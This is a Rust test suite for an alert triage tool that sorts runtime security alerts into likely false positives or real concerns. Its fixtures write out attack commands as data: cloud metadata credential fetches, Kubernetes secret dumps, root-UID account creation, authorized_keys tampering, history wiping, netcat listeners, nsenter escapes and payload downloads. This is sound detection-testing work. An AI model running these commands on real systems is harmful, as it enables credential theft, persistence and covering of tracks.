    /// Issue 11 (session 7): a quiet cron job that only reads a sensitive file, nothing in
    /// its session reaching outside the site, is a likely false positive
    /// (`job_reads_by_purpose` offsets `target_sensitive`); the same read with an upload
    /// outside the site is not; a person's read is not anchored.
    #[test]
    fn a_quiet_jobs_read_of_a_sensitive_file_is_its_purpose_only_inside_the_site() {
        let read = |sid: i64, lineage: &serde_json::Value, before: Vec<serde_json::Value>| {
            let mut evs = before;
            evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":20,"proc.name":"tar","proc.exepath":"/usr/bin/tar","proc.cmdline":"tar czf /var/backups/home.tgz /root"}));
            evs.push(json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":21,"proc.name":"tar","proc.exepath":"/usr/bin/tar","fd.name":"/root/.ssh/id_ed25519","evt.is_open_read":true,"fd.num":3}));
            evs.into_iter()
                .map(|mut v| {
                    v["proc.sid"] = json!(sid);
                    for (k, val) in lineage.as_object().unwrap() {
                        if v.get(k).is_none() {
                            v[k] = val.clone();
                        }
                    }
                    l(v)
                })
                .collect::<Vec<String>>()
        };
        let cron = json!({"proc.tty":0,"proc.pname":"sh","proc.pcmdline":"sh -c tar czf /var/backups/home.tgz /root","proc.aname[2]":"cron","proc.aname[3]":"systemd"});
        let r = verdict_of(&read(950, &cron, vec![]), "Read ssh");
        assert_eq!(r.len(), 1, "{r:#?}");
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        let s = signals(&r[0]);
        assert!(
            s.contains(&"job_reads_by_purpose") && s.contains(&"target_sensitive"),
            "{s:?}"
        );
        let out = json!({"evt.type":"connect","evt.rawres":0,"evt.rawtime":30,"proc.name":"tar","fd.sip":"198.51.100.20","fd.sport":443,"fd.name":"10.0.0.5:40000->198.51.100.20:443"});
        for c in verdict_of(&read(951, &cron, vec![out]), "Read ssh") {
            assert!(!signals(&c).contains(&"job_reads_by_purpose"), "{c:#?}");
            assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{c:#?}");
        }
        let person = json!({"proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"});
        for c in verdict_of(&read(952, &person, vec![]), "Read ssh") {
            assert!(!signals(&c).contains(&"job_reads_by_purpose"), "{c:#?}");
            assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{c:#?}");
        }
    }

    /// Issue 11 (session 7): a container workload's own process tree (the entrypoint
    /// shell under the runtime's shim, nothing entered) is anchored; its forgeries are
    /// not: the same names above an exec'd shell quell saw with a pid other than 1 in the
    /// container (a `runc exec` re-parented to the shim), a runtime exec in the lineage, a
    /// privileged container (a pod created to break out), an application between the
    /// entrypoint and the shell (a web application's command injection), a credential
    /// read (counted in full for a workload, unlike a scheduled job's), a contact
    /// outside the site in the session, or (session 16) a client outside the site that the
    /// entrypoint answers.
    #[test]
    fn a_workloads_own_tree_is_anchored_and_its_forgeries_are_not() {
        let rule = "Clear Log Activities";
        let ctr = |extra: serde_json::Value| {
            let mut v = json!({"container.id":"c0ffee000001","container.privileged":false,"proc.tty":0,"proc.vpid":9,"proc.pname":"sh","proc.aname[2]":"containerd-shim","proc.apid[1]":4001,"proc.apid[2]":4000,"thread.cap_effective":"CAP_CHOWN CAP_KILL"});
            for (k, val) in extra.as_object().unwrap() {
                v[k] = val.clone();
            }
            v
        };
        assert_anchored_by(
            &lineage_job(960, 1000, &ctr(json!({})), vec![]),
            rule,
            "entrypoint sh",
        );
        // The shell is an exec'd one: quell saw it with vpid 7.
        let mut lines = vec![l(
            json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":900,"proc.sid":961,"proc.pid":4001,"proc.vpid":7,"proc.name":"sh","container.id":"c0ffee000001","proc.pname":"runc","proc.tty":0}),
        )];
        lines.extend(lineage_job(961, 1000, &ctr(json!({})), vec![]));
        assert_not_anchored(&lines, rule, "an exec'd shell re-parented to the shim");
        // The event says nothing of the shell's pid: not anchored either.
        let mut no_pid = ctr(json!({}));
        no_pid.as_object_mut().unwrap().remove("proc.apid[1]");
        assert_not_anchored(&lineage_job(962, 1000, &no_pid, vec![]), rule, "no pid");
        assert_not_anchored(
            &lineage_job(
                963,
                1000,
                &ctr(json!({"proc.aname[2]":"runc","proc.aname[3]":"containerd-shim"})),
                vec![],
            ),
            rule,
            "a runtime exec",
        );
        assert_not_anchored(
            &lineage_job(
                964,
                1000,
                &ctr(json!({"container.privileged":true})),
                vec![],
            ),
            rule,
            "a privileged container",
        );
        assert_not_anchored(
            &lineage_job(
                965,
                1000,
                &ctr(json!({"thread.cap_effective":"CAP_CHOWN CAP_SYS_ADMIN"})),
                vec![],
            ),
            rule,
            "CAP_SYS_ADMIN",
        );
        assert_not_anchored(
            &lineage_job(
                966,
                1000,
                &ctr(json!({"proc.aname[2]":"node","proc.aname[3]":"containerd-shim"})),
                vec![],
            ),
            rule,
            "an application between the entrypoint and the shell",
        );
        let token = json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":1001,"proc.name":"cat","proc.exepath":"/usr/bin/cat","fd.name":"/root/.ssh/id_ed25519","evt.is_open_read":true,"fd.num":3});
        assert_not_anchored(
            &lineage_job(967, 1000, &ctr(json!({})), vec![token]),
            rule,
            "a credential read",
        );
        let out = json!({"evt.type":"connect","evt.rawres":0,"evt.rawtime":1001,"proc.name":"wget","fd.sip":"198.51.100.20","fd.sport":443,"fd.name":"10.0.0.5:40000->198.51.100.20:443"});
        assert_not_anchored(
            &lineage_job(968, 1000, &ctr(json!({})), vec![out]),
            rule,
            "a contact outside the site",
        );
        // Session 8: a workload that asks the orchestrator for every secret first.
        let secrets = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1001,"proc.name":"kubectl","proc.exepath":"/usr/local/bin/kubectl","proc.cmdline":"kubectl get secrets -A -o yaml"});
        assert_not_anchored(
            &lineage_job(969, 1000, &ctr(json!({})), vec![secrets]),
            rule,
            "secrets asked of the orchestrator",
        );
        let nodes = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1001,"proc.name":"kubectl","proc.exepath":"/usr/local/bin/kubectl","proc.cmdline":"kubectl get nodes -o wide"});
        assert_anchored_by(
            &lineage_job(975, 1000, &ctr(json!({})), vec![nodes]),
            rule,
            "entrypoint sh",
        );
        // Session 17: the job's copy carrying key material itself to another host of the
        // site (the blind holdout19's tampered CronJob) is a step no routine work takes;
        // the same copy of a data file, with the job's own identity key, is the job's work.
        let scp = |cmd: &str| json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1001,"proc.name":"scp","proc.exepath":"/usr/bin/scp","proc.cmdline":cmd});
        assert_anchored_by(
            &lineage_job(
                976,
                1000,
                &ctr(json!({})),
                vec![scp(
                    "scp -i /keys/id_ed25519 /data/hotlist.bin afc@10.60.4.21:/srv/in/",
                )],
            ),
            rule,
            "entrypoint sh",
        );
        let r = verdict_of(
            &lineage_job(
                977,
                1000,
                &ctr(json!({})),
                vec![scp("scp /keys/token-master.key afc@10.60.4.250:")],
            ),
            rule,
        );
        assert!(!r.is_empty());
        for c in &r {
            assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{c:#?}");
            assert!(signals(c).contains(&"session_attack_step"), "{c:#?}");
        }
        // The entrypoint itself (pid 1), when it is not an interpreter.
        let init = json!({"container.id":"c0ffee000002","proc.tty":0,"proc.vpid":1,"proc.pid":5000,"proc.pname":"containerd-shim"});
        let lines: Vec<String> = vec![
            l(json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":10,"proc.sid":970,"proc.name":"logpruner","proc.exepath":"/app/logpruner","fd.name":"/etc/app.conf","evt.is_open_read":true,"fd.num":3})),
            l(json!({"evt.type":"unlinkat","evt.rawres":0,"evt.rawtime":11,"proc.sid":970,"proc.name":"logpruner","proc.exepath":"/app/logpruner","fs.path.name":"/var/log/app/old.log"})),
        ]
        .into_iter()
        .map(|s| {
            let mut v: serde_json::Value = serde_json::from_str(&s).unwrap();
            for (k, val) in init.as_object().unwrap() {
                v[k] = val.clone();
            }
            l(v)
        })
        .collect();
        assert_anchored_by(&lines, rule, "entrypoint logpruner");
        // Session 16: an entrypoint that answers a client outside the site does what its
        // clients ask; one whose clients are inside the site is still its own work.
        let served = |cip: &str| {
            let mut v = json!({"evt.type":"accept4","evt.rawres":5,"evt.rawtime":9,"proc.sid":970,"proc.name":"logpruner","proc.exepath":"/app/logpruner","fd.cip":cip,"fd.sip":"10.0.0.5","fd.sport":8080});
            for (k, val) in init.as_object().unwrap() {
                v[k] = val.clone();
            }
            let mut with = vec![l(v)];
            with.extend(lines.iter().cloned());
            with
        };
        assert_not_anchored(&served("203.0.113.77"), rule, "a client outside the site");
        assert_anchored_by(&served("10.60.2.9"), rule, "entrypoint logpruner");
        // The blind holdout29: an entrypoint that asks both the orchestrator's API and the
        // cloud's instance metadata service holds two authorities' keys; either alone is
        // still its own work.
        let contacts = |to: &[(&str, u16, &str)]| {
            let mut with: Vec<String> = to
                .iter()
                .enumerate()
                .map(|(i, (ip, port, name))| {
                    let mut v = json!({"evt.type":"connect","evt.rawres":0,"evt.rawtime":5 + i as i64,"proc.sid":970,"proc.name":"logpruner","proc.exepath":"/app/logpruner","fd.sip":ip,"fd.sport":port,"fd.sip.name":name,"fd.name":format!("10.0.0.5:4{i}000->{ip}:{port}")});
                    for (k, val) in init.as_object().unwrap() {
                        v[k] = val.clone();
                    }
                    l(v)
                })
                .collect();
            with.extend(lines.iter().cloned());
            with
        };
        let api = ("172.30.0.1", 443, "kubernetes.default.svc.cluster.local");
        let imds = ("169.254.169.254", 80, "");
        assert_not_anchored(
            &contacts(&[api, imds]),
            rule,
            "the orchestrator's API and the instance metadata service",
        );
        assert_anchored_by(&contacts(&[api]), rule, "entrypoint logpruner");
        assert_anchored_by(&contacts(&[imds]), rule, "entrypoint logpruner");
        // The blind holdout30: a process exec'd into the container (the runtime's child, not
        // its init) taking a step toward an attack means somebody entered the workload; an
        // exec probe taking none does not.
        let exec_in = |v: serde_json::Value| {
            let mut x = v;
            for (k, val) in init.as_object().unwrap() {
                if x.get(k).is_none() {
                    x[k] = val.clone();
                }
            }
            x["proc.vpid"] = json!(7);
            x["proc.pid"] = json!(5007);
            let mut with = vec![l(x)];
            with.extend(lines.iter().cloned());
            with
        };
        assert_not_anchored(
            &exec_in(
                json!({"evt.type":"socket","evt.rawres":3,"evt.rawtime":5,"proc.sid":970,"proc.name":"tcpdump","proc.exepath":"/usr/bin/tcpdump","proc.cmdline":"tcpdump -i eth0 -w /tmp/c.pcap","evt.arg.domain":"AF_PACKET","evt.arg.type":"SOCK_RAW"}),
            ),
            rule,
            "a process exec'd into the container opening a packet socket",
        );
        assert_anchored_by(
            &exec_in(
                json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":5,"proc.sid":970,"proc.name":"pg_isready","proc.exepath":"/usr/bin/pg_isready","proc.cmdline":"pg_isready -h 127.0.0.1"}),
            ),
            rule,
            "entrypoint logpruner",
        );
        let interp: Vec<String> = lines
            .iter()
            .map(|s| {
                s.replace("logpruner", "node")
                    .replace("c0ffee000002", "c0ffee000003")
            })
            .collect();
        assert_not_anchored(
            &interp,
            rule,
            "an interpreter as pid 1 (code run in an app)",
        );
    }

    /// Issue 11 (personquiet): a person at a terminal whose session quell saw from its
    /// start, with nothing toward an attack in it or in the alert's own act, is anchored
    /// (`person_quiet`, anchor on again since session 8); each near-attack at the same
    /// terminal is not: a step toward an
    /// attack anywhere in the session (before or after the alert, inside or outside the
    /// context window), in the alert's own act, or a session quell did not see whole.
    #[test]
    fn a_persons_quiet_session_is_anchored_and_its_near_attacks_are_not() {
        // sshd -> bash (session leader 900) -> rm, which removes an application log.
        let session = |sid: i64,
                       target: &str,
                       rm_exe: &str,
                       leader: bool,
                       extra: Vec<serde_json::Value>| {
            let mut evs = Vec::new();
            if leader {
                evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1_000_000_000_000u64,"proc.pid":sid,"proc.name":"bash","proc.exepath":"/usr/bin/bash","proc.cmdline":"-bash","proc.pname":"sshd","proc.aname[1]":"sshd","proc.apid[1]":sid - 1}));
            }
            evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1_000_100_000_000u64,"proc.pid":sid + 1,"proc.name":"ls","proc.exepath":"/usr/bin/ls","proc.cmdline":"ls -l /var/log/app"}));
            evs.push(json!({"evt.type":"unlinkat","evt.rawres":0,"evt.rawtime":1_000_200_000_000u64,"proc.pid":sid + 2,"proc.name":"rm","proc.exepath":rm_exe,"proc.cmdline":format!("rm -f {target}"),"fs.path.name":target}));
            evs.extend(extra);
            evs.into_iter()
                .map(|mut v| {
                    v["proc.sid"] = json!(sid);
                    v["proc.tty"] = json!(34816);
                    if v.get("proc.pname").is_none() {
                        v["proc.pname"] = json!("bash");
                        v["proc.aname[1]"] = json!("bash");
                        v["proc.apid[1]"] = json!(sid);
                        v["proc.aname[2]"] = json!("sshd");
                        v["proc.apid[2]"] = json!(sid - 1);
                    }
                    l(v)
                })
                .collect::<Vec<String>>()
        };
        let ev = |t: u64, name: &str, exe: &str, cmd: &str, more: serde_json::Value| {
            let mut v = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":t,"proc.pid":999_000 + (t / 1_000_000_000) % 1000,"proc.name":name,"proc.exepath":exe,"proc.cmdline":cmd});
            for (k, val) in more.as_object().unwrap() {
                v[k] = val.clone();
            }
            v
        };
        const LOG: &str = "/var/log/app/debug.log";
        let r = verdict_of(
            &session(900, LOG, "/usr/bin/rm", true, vec![]),
            "Clear Log Activities",
        );
        assert_eq!(r.len(), 1, "{r:#?}");
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert!(signals(&r[0]).contains(&"person_quiet"), "{:#?}", r[0]);
        assert_eq!(r[0].anchor.as_deref(), Some("person_quiet (quiet_session)"));
        // The same person emptying a record of the system's own (session 10) is not
        // anchored by the quiet session: it is how a trail is wiped.
        let r = verdict_of(
            &session(900, "/var/log/cron", "/usr/bin/rm", true, vec![]),
            "Clear Log Activities",
        );
        assert_eq!(r.len(), 1, "{r:#?}");
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert!(!signals(&r[0]).contains(&"person_quiet"), "{:#?}", r[0]);
        // Ordinary work beside it keeps the anchor: a local health check, reading a
        // configuration and a process's command line, destroying an old key.
        let benign = vec![
            ev(
                1_000_050_000_000,
                "curl",
                "/usr/bin/curl",
                "curl -s http://127.0.0.1:8080/health",
                json!({}),
            ),
            ev(
                1_000_060_000_000,
                "cat",
                "/usr/bin/cat",
                "cat /proc/1/cmdline",
                json!({}),
            ),
            ev(
                1_000_070_000_000,
                "shred",
                "/usr/bin/shred",
                "shred -u /etc/ssl/private/api-2019.key",
                json!({}),
            ),
            ev(
                1_000_080_000_000,
                "grep",
                "/usr/bin/grep",
                "grep -i DB_ /app/config.yaml",
                json!({}),
            ),
        ];
        let r = verdict_of(
            &session(901, LOG, "/usr/bin/rm", true, benign),
            "Clear Log Activities",
        );
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);

        let not_anchored = |lines: Vec<String>, why: &str| {
            let r = verdict_of(&lines, "Clear Log Activities");
            assert!(!r.is_empty(), "{why}");
            for c in &r {
                assert!(!signals(c).contains(&"person_quiet"), "{why}: {c:#?}");
                assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{why}: {c:#?}");
            }
        };
        // After the alert, and 30 minutes after it (outside the context window).
        let late = 1_000_200_000_000 + 30 * 60 * 1_000_000_000;
        let steps: Vec<(&str, serde_json::Value)> = vec![
            (
                "an interactive shell as the web server's account",
                json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":late,"proc.name":"bash","proc.exepath":"/usr/bin/bash","proc.cmdline":"/bin/bash","user.name":"www-data","proc.pname":"sudo"}),
            ),
            (
                "setuid bit by chmod's syscall",
                json!({"evt.type":"fchmodat","evt.rawres":0,"evt.rawtime":late,"proc.name":"chmod","proc.exepath":"/usr/bin/chmod","evt.arg.filename":"/tmp/.ICE-unix-q","fs.path.name":"/tmp/.ICE-unix-q","evt.arg.mode":"S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID"}),
            ),
            (
                "setuid bit by chmod u+s",
                ev(
                    late,
                    "chmod",
                    "/usr/bin/chmod",
                    "chmod u+s /usr/local/bin/helper",
                    json!({}),
                ),
            ),
            (
                "setgid bit, octal",
                ev(
                    late,
                    "chmod",
                    "/usr/bin/chmod",
                    "chmod 2755 /srv/x",
                    json!({}),
                ),
            ),
            (
                "service-account token by cat",
                ev(
                    1_000_300_000_000,
                    "cat",
                    "/usr/bin/cat",
                    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                    json!({}),
                ),
            ),
            (
                "another process's environment by cat",
                ev(
                    1_000_300_000_000,
                    "cat",
                    "/usr/bin/cat",
                    "cat /proc/1/environ",
                    json!({}),
                ),
            ),
            (
                "an escape from a program run through sudo",
                ev(
                    1_000_150_000_000,
                    "bash",
                    "/usr/bin/bash",
                    "/bin/bash",
                    json!({"proc.pname":"vim","proc.aname[1]":"vim","proc.aname[2]":"sudo","proc.aname[3]":"bash","proc.aname[4]":"sshd"}),
                ),
            ),
            (
                "a tracer showing the data at length",
                ev(
                    late,
                    "strace",
                    "/usr/bin/strace",
                    "strace -f -s 1024 -p 812",
                    json!({}),
                ),
            ),
            (
                "another process's environment opened",
                json!({"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_read":true,"evt.rawtime":late,"proc.name":"sh","proc.exepath":"/usr/bin/sh","fd.name":"/proc/7/environ"}),
            ),
            (
                "service-account token opened",
                json!({"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_read":true,"evt.rawtime":late,"proc.name":"sh","proc.exepath":"/usr/bin/sh","fd.name":"/run/secrets/kubernetes.io/serviceaccount/token"}),
            ),
            (
                "secrets from the orchestrator API",
                ev(
                    late,
                    "curl",
                    "/usr/bin/curl",
                    "curl -s https://10.96.0.1/api/v1/namespaces/shop/secrets",
                    json!({}),
                ),
            ),
            (
                "cloud instance credentials",
                ev(
                    late,
                    "curl",
                    "/usr/bin/curl",
                    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                    json!({}),
                ),
            ),
            (
                "TLS verification off",
                ev(
                    late,
                    "curl",
                    "/usr/bin/curl",
                    "curl -sk https://10.0.3.4/status",
                    json!({}),
                ),
            ),
            (
                "key search",
                ev(
                    late,
                    "grep",
                    "/usr/bin/grep",
                    "grep -rl \"BEGIN OPENSSH PRIVATE\" /home",
                    json!({}),
                ),
            ),
            (
                "key search by name",
                ev(
                    late,
                    "find",
                    "/usr/bin/find",
                    "find / -name id_rsa",
                    json!({}),
                ),
            ),
            (
                "dropped script run",
                ev(
                    1_000_150_000_000,
                    "sh",
                    "/usr/bin/sh",
                    "sh /tmp/.p.sh",
                    json!({}),
                ),
            ),
            (
                "account added",
                ev(
                    late,
                    "useradd",
                    "/usr/sbin/useradd",
                    "useradd -o -u 0 -g 0 svc-backup",
                    json!({}),
                ),
            ),
            (
                "authorized_keys written",
                json!({"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_write":true,"evt.arg.flags":"O_WRONLY|O_APPEND","evt.rawtime":late,"proc.name":"bash","proc.exepath":"/usr/bin/bash","fd.name":"/root/.ssh/authorized_keys"}),
            ),
            (
                "hardlink to sudoers",
                json!({"evt.type":"linkat","evt.rawres":0,"evt.rawtime":late,"proc.name":"ln","proc.exepath":"/usr/bin/ln","fs.path.source":"/etc/sudoers","fs.path.target":"/tmp/s"}),
            ),
            (
                "history replaced by /dev/null",
                json!({"evt.type":"symlinkat","evt.rawres":0,"evt.rawtime":late,"proc.name":"ln","proc.exepath":"/usr/bin/ln","evt.arg.target":"/dev/null","evt.arg.linkpath":"/root/.bash_history"}),
            ),
            (
                "a shell connects out",
                json!({"evt.type":"connect","evt.rawres":0,"evt.rawtime":late,"proc.name":"bash","proc.exepath":"/usr/bin/bash","fd.name":"10.0.0.9:41000->198.51.100.8:80"}),
            ),
            (
                "a fetch from outside to the terminal",
                ev(
                    late,
                    "curl",
                    "/usr/bin/curl",
                    "curl -s https://paste.example.net/raw/x",
                    json!({}),
                ),
            ),
            (
                "a download",
                ev(
                    1_000_010_000_000,
                    "wget",
                    "/usr/bin/wget",
                    "wget -q http://198.51.100.9/x -O /var/tmp/x",
                    json!({}),
                ),
            ),
            (
                "a namespace entered",
                json!({"evt.type":"setns","evt.rawres":0,"evt.rawtime":late,"proc.name":"bash","proc.exepath":"/usr/bin/bash","evt.arg.nstype":"CLONE_NEWNS"}),
            ),
            (
                "a packet socket",
                json!({"evt.type":"socket","evt.rawres":3,"evt.rawtime":late,"proc.name":"python3","proc.exepath":"/usr/bin/python3","evt.arg.domain":"AF_PACKET","evt.arg.type":"3"}),
            ),
            (
                "a listening socket",
                json!({"evt.type":"listen","evt.rawres":0,"evt.rawtime":late,"proc.name":"python3","proc.exepath":"/usr/bin/python3","fd.name":"0.0.0.0:4444"}),
            ),
            (
                "nsenter",
                ev(
                    late,
                    "nsenter",
                    "/usr/bin/nsenter",
                    "nsenter -t 1 -m -u -i -n sh",
                    json!({}),
                ),
            ),
            (
                "netcat",
                ev(late, "nc", "/usr/bin/nc", "nc -lvp 4444", json!({})),
            ),
            (
                "the host's root",
                ev(
                    late,
                    "cat",
                    "/usr/bin/cat",
                    "cat /proc/1/root/etc/hostname",
                    json!({}),
                ),
            ),
            (
                "the runtime's socket",
                json!({"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_read":true,"evt.rawtime":late,"proc.name":"curl","proc.exepath":"/usr/bin/curl","fd.name":"/var/run/docker.sock"}),
            ),
            (
                "a copy to a host inside the site",
                ev(
                    late,
                    "scp",
                    "/usr/bin/scp",
                    "scp /srv/app/db.sql backup@10.0.0.7:/srv/in/",
                    json!({}),
                ),
            ),
        ];
        for (i, (why, step)) in steps.into_iter().enumerate() {
            not_anchored(
                session(910 + 10 * i as i64, LOG, "/usr/bin/rm", true, vec![step]),
                why,
            );
        }
        // The alert's own act is an attack goal: a security log cleared.
        not_anchored(
            session(1200, "/var/log/auth.log", "/usr/bin/rm", true, vec![]),
            "auth.log removed",
        );
        // A shell in a privileged container.
        let privileged: Vec<String> = session(1240, LOG, "/usr/bin/rm", true, vec![])
            .into_iter()
            .map(|line| {
                let mut v: serde_json::Value = serde_json::from_str(&line).unwrap();
                v["container.id"] = json!("4410ba000000");
                v["container.privileged"] = json!(true);
                l(v)
            })
            .collect();
        not_anchored(privileged, "a privileged container");
        // The alert's own act reads a sensitive target (rule "Read ssh").
        let r = verdict_of(
            &session(
                1250,
                LOG,
                "/usr/bin/rm",
                true,
                vec![
                    json!({"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_read":true,"evt.rawtime":1_000_300_000_000u64,"proc.pid":1253,"proc.name":"less","proc.exepath":"/usr/bin/less","fd.name":"/root/.ssh/known_hosts"}),
                ],
            ),
            "Read ssh",
        );
        assert!(!r.is_empty());
        assert!(
            r.iter().all(|c| !signals(c).contains(&"person_quiet")),
            "{r:#?}"
        );
        // Not the system's own program.
        not_anchored(
            session(1210, LOG, "/root/.local/bin/rm", true, vec![]),
            "not the system's rm",
        );
        // quell did not see the session start.
        not_anchored(
            session(1220, LOG, "/usr/bin/rm", false, vec![]),
            "session start unseen",
        );
        // A package installed in the session.
        not_anchored(
            session(
                1230,
                LOG,
                "/usr/bin/rm",
                true,
                vec![ev(
                    1_000_150_000_000,
                    "apt-get",
                    "/usr/bin/apt-get",
                    "apt-get install -y nmap",
                    json!({}),
                )],
            ),
            "a package installed",
        );
    }
}
